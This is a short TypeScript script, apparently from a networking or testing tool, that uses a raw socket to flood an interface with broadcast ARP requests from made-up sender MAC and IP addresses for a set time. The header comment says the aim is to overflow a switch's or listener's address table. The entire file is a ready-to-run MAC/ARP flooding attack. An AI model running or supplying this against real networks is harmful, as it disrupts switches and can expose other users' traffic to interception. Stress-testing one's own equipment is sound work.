/** Floods an interface with ARP of made-up senders for a number of seconds: a switch's table, or a listener's, runs full. */
import { openPacketSocket } from '../wire/packet-socket.ts'

const [interfaceName = '', seconds = '1'] = process.argv.slice(2)
const socket = openPacketSocket(interfaceName)
const frame = Buffer.alloc(60)
frame.fill(0xff, 0, 6)
// RFC 826: Ethernet, IPv4, a request.
Buffer.from('08060001080006040001', 'hex').copy(frame, 12)
const until = performance.now() + Number(seconds) * 1000
let sent = 0
while (performance.now() < until)
  for (let index = 0; index < 500; index++) {
    // Two octets that no maker has, and a counter.
    frame.writeUInt16BE(0x0242, 6)
    frame.writeUInt32BE(sent, 8)
    frame.copy(frame, 22, 6, 12)
    frame.writeUInt32BE(0x0a290000 + (sent & 0xffff), 28)
    socket.send(frame)
    sent++
  }
socket.close()
process.stdout.write(`${sent}\n`)
